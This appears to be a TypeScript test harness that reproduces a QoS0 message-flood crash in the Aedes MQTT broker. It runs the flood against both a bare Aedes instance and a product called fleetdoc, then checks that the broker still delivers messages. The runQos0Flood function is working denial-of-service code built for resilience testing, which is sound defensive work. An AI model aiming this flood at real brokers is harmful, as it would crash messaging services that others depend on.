/**
 * The QoS0 flood that crashes Aedes 1.x (RangeError: Maximum call stack size
 * exceeded in mqemitter/fastparallel), over raw sockets so the same scenario
 * runs against a bare Aedes and against fleetdoc:
 *
 *  1. a subscriber (a service client on devices/+/telemetry) subscribes and
 *     then stops reading: its socket fills and every delivery to it waits
 *     for `drain`;
 *  2. many publishers flood QoS0 messages matched by that subscription; with
 *     mqemitter's `concurrency` slots all held by those waiting deliveries,
 *     the rest queue in mqemitter (thousands of messages);
 *  3. the flood clients reset their connections, then so does the subscriber
 *     (or the broker's own drainTimeout drops it). Its listener is removed,
 *     so every queued message now has zero matches: fastparallel completes
 *     such a message synchronously, mqemitter's `released` synchronously
 *     `_do`es the next one — one stack level per queued message, until the
 *     stack overflows in an uncaught exception.
 */
import { PUBLISH, SUBACK, connackCode, connectPacket, openWire, publishPacket, subscribePacket, type Wire } from './wire.ts';

export interface FloodClient {
  clientId: string;
  username?: string;
  password?: string;
}

export interface FloodScenario {
  port: number;
  subscriber: FloodClient & { filter: string };
  publishers: ReadonlyArray<FloodClient & { topic: string }>;
  messagesPerPublisher: number;
  payload: Buffer;
  /** Backlog probe (e.g. mqemitter's queue length) — reported, and waited on when given. */
  backlog?: () => number | Promise<number>;
  /** Wait for the probe to reach this before the disconnects (default 2000). */
  minBacklog?: number;
  /** How long to watch after the disconnects (default 1500 ms). */
  settleMs?: number;
}

export interface FloodResult {
  backlogBeforeDisconnect: number;
  bytesPerPublisher: number;
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function connectClient(port: number, c: FloodClient): Promise<Wire> {
  const w = await openWire(port);
  const code = await connackCode(w, connectPacket({ clientId: c.clientId, clean: true, username: c.username, password: c.password, keepalive: 0 }));
  if (code !== 0) throw new Error(`${c.clientId}: CONNACK ${code}`);
  return w;
}

export async function runQos0Flood(s: FloodScenario): Promise<FloodResult> {
  const sub = await connectClient(s.port, s.subscriber);
  sub.send(subscribePacket(1, [{ topic: s.subscriber.filter, qos: 0 }]));
  const suback = await sub.next(SUBACK);
  if (!suback || suback.body[2] === 0x80) throw new Error('subscription refused');
  // stop reading: the broker's writes to us back up once the kernel buffers are full
  sub.socket.pause();

  const pubs = await Promise.all(s.publishers.map((p) => connectClient(s.port, p)));
  let bytes = 0;
  pubs.forEach((w, i) => {
    const one = publishPacket(s.publishers[i]!.topic, s.payload, 0);
    const flood = Buffer.concat(Array.from({ length: s.messagesPerPublisher }, () => one));
    bytes = flood.length;
    w.send(flood);
  });

  const deadline = Date.now() + 10_000;
  const want = s.minBacklog ?? 2000;
  if (s.backlog) while ((await s.backlog()) < want && Date.now() < deadline) await sleep(50);
  else await sleep(1500);
  const backlogBeforeDisconnect = (await s.backlog?.()) ?? 0;

  // abrupt: RST, no DISCONNECT
  for (const w of pubs) w.socket.resetAndDestroy();
  await sleep(100);
  sub.socket.resetAndDestroy();
  await sleep(s.settleMs ?? 1500);
  return { backlogBeforeDisconnect, bytesPerPublisher: bytes };
}

/** After the storm: a fresh subscriber still gets a fresh publisher's message. */
export async function stillServes(port: number, subscriber: FloodClient & { filter: string }, publisher: FloodClient & { topic: string }, payload: Buffer): Promise<boolean> {
  const sub = await connectClient(port, subscriber);
  try {
    sub.send(subscribePacket(1, [{ topic: subscriber.filter, qos: 0 }]));
    if (!(await sub.next(SUBACK))) return false;
    const pub = await connectClient(port, publisher);
    try {
      pub.send(publishPacket(publisher.topic, payload, 0));
      const got = await sub.next(PUBLISH, 5000);
      return got !== undefined && got.body.includes(payload);
    } finally {
      pub.socket.destroy();
    }
  } finally {
    sub.socket.destroy();
  }
}
